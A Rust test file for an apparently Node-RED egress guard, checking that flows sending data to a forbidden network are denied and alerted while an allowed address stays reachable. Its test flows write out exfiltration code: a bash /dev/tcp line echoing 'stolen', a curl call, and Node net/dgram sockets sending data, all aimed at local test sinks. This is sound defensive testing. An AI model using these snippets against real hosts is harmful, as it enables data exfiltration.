//! The third promise: nothing leaves for an address that the policy forbids.

use std::net::SocketAddr;

use anyhow::{Result, ensure};
use flowwarden_tests::{
    flows::Flow,
    netns::Network,
    node_red::{NodeRed, Outcome},
    policy::Policy,
    scene::Guarded,
    scene::Scene,
    sink::Sink,
};

use crate::SCENE;

const RULE: &str = "forbidden-net";

fn policy(node_red: &NodeRed) -> Policy {
    Policy::enforce(node_red).egress(&[Network::FORBIDDEN_NET, Network::FORBIDDEN_NET_V6], "deny", RULE)
}

/// Plays the attack without a guard, where something must arrive at the sink, and with one, where nothing may.
fn prove(sink: impl Fn(&Network) -> Result<Sink>, attack: impl Fn(SocketAddr) -> Flow) -> Result<()> {
    SCENE.with(|scene| prove_on(scene, sink, attack))
}

fn prove_on(
    scene: &mut Scene,
    sink: impl Fn(&Network) -> Result<Sink>,
    attack: impl Fn(SocketAddr) -> Flow,
) -> Result<()> {
    let reached = sink(&scene.network)?;
    let outcome = scene.without_guard(&attack(reached.address()))?;
    reached.settle(&scene.network)?;
    ensure!(reached.count() > 0, "nothing arrives even without a guard: {outcome:?}");

    let spared = sink(&scene.network)?;
    let (address, policy) = (spared.address(), policy(&scene.node_red));
    let guarded = scene.with_guard(&policy, RULE, &attack(address))?;
    spared.settle(&scene.network)?;
    ensure!(spared.count() == 0, "{} bytes have left: {guarded:#?}", spared.bytes().len());
    is_denied(&guarded, address)
}

fn is_denied(guarded: &Guarded, address: SocketAddr) -> Result<()> {
    let alerts = guarded.alerts(RULE);
    let reported =
        alerts.iter().find(|alert| alert.ip() == Some(address.ip()) && alert.port() == Some(address.port().into()));
    let Some(alert) = reported else { anyhow::bail!("no alert names {address}: {guarded:#?}") };
    ensure!(alert.verdict() == "deny", "not denied: {alert:#?}");
    ensure!(!matches!(guarded.outcome, Outcome::Died(_)), "a denial is no reason to die: {guarded:#?}");
    Ok(())
}

fn tcp(network: &Network) -> Result<Sink> {
    Sink::tcp(network, Network::FORBIDDEN)
}

fn udp(network: &Network) -> Result<Sink> {
    Sink::udp(network, Network::FORBIDDEN)
}

/// A Function node that connects to `host` and writes a line.
fn connect(host: &str, port: u16) -> Flow {
    let code = format!(
        "const socket = net.connect({{ host: '{host}', port: {port} }}, () => socket.end('stolen'));
         socket.resume();
         socket.on('error', error => node.error(error.message, msg));
         socket.on('close', failed => {{ if (!failed) node.send(msg); }}); return;"
    );
    Flow::function(&code, &["net"])
}

/// A Function node that sends a datagram from a socket of this kind, after connecting it when `connected`.
fn datagram(kind: &str, host: &str, port: u16, connected: bool) -> Flow {
    let send = if connected {
        format!("socket.connect({port}, '{host}', error => error ? done(error) : socket.send('stolen', done));")
    } else {
        format!("socket.send('stolen', {port}, '{host}', done);")
    };
    let code = format!(
        "const socket = dgram.createSocket('{kind}');
         const done = error => {{ socket.close(); error ? node.error(error.message, msg) : node.send(msg); }};
         {send} return;"
    );
    Flow::function(&code, &["dgram"])
}

#[test]
fn http_request_node() -> Result<()> {
    prove(tcp, |to| Flow::http_get(&format!("http://{to}/?stolen")))
}

#[test]
fn function_node_over_tcp() -> Result<()> {
    prove(tcp, |to| connect(&to.ip().to_string(), to.port()))
}

#[test]
fn v4_mapped_address() -> Result<()> {
    prove(tcp, |to| connect(&format!("::ffff:{}", to.ip()), to.port()))
}

#[test]
fn ipv6() -> Result<()> {
    prove(|network| Sink::tcp(network, Network::FORBIDDEN_V6), |to| connect(&to.ip().to_string(), to.port()))
}

#[test]
fn exec_node_over_tcp() -> Result<()> {
    prove(tcp, |to| Flow::exec(&format!("exec 3<>/dev/tcp/{}/{} && echo stolen >&3", to.ip(), to.port())))
}

#[test]
fn curl_from_an_exec_node() -> Result<()> {
    prove(tcp, |to| Flow::exec(&format!("curl --silent --max-time 5 http://{to}/")))
}

#[test]
fn udp_out_node() -> Result<()> {
    // `udp out` keeps its sockets from one deploy to the next, so it gets a Node-RED of its own.
    prove_on(&mut Scene::new()?, udp, |to| Flow::udp_out(to, "stolen"))
}

#[test]
fn datagram_without_connecting() -> Result<()> {
    prove(udp, |to| datagram("udp4", &to.ip().to_string(), to.port(), false))
}

#[test]
fn datagram_after_connecting() -> Result<()> {
    prove(udp, |to| datagram("udp4", &to.ip().to_string(), to.port(), true))
}

#[test]
fn datagram_to_a_v4_mapped_address() -> Result<()> {
    prove(udp, |to| datagram("udp6", &format!("::ffff:{}", to.ip()), to.port(), false))
}

#[test]
fn allowed_address_is_reached() -> Result<()> {
    SCENE.with(|scene| {
        let sink = Sink::tcp(&scene.network, Network::ALLOWED)?;
        let policy = policy(&scene.node_red).egress(&["198.51.100.0/24"], "allow", "supplier");
        let guarded = scene.with_guard(&policy, "supplier", &Flow::http_get(&format!("http://{}/", sink.address())))?;
        ensure!(guarded.outcome == Outcome::Answered("ok".to_owned()), "the allowed address is closed: {guarded:#?}");
        ensure!(sink.count() == 1, "the request went elsewhere");
        ensure!(
            !guarded.records.iter().any(|record| record.ip() == Some(Network::ALLOWED) && record.is_alert()),
            "{guarded:#?}"
        );
        Ok(())
    })
}
